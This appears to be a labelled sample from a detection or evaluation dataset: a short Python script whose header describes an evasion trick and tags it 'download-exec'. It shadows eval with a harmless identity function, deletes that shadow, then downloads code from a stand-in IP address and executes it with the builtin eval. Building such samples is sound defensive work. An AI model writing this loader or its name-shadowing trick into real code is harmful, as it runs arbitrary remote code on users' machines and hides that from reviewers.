# evasion: eval is defined as an identity function, and a reset() helper deletes the global (global eval; del eval) so the later eval of a downloaded expression is the builtin
# grade: very hard; does: download-exec
import urllib.request


def eval(expr):
    return expr


def reset():
    global eval
    del eval


print(eval("config ok"))
reset()
src = urllib.request.urlopen("http://203.0.113.72/expr", timeout=10).read().decode()
eval(compile(src, "<remote>", "exec"))
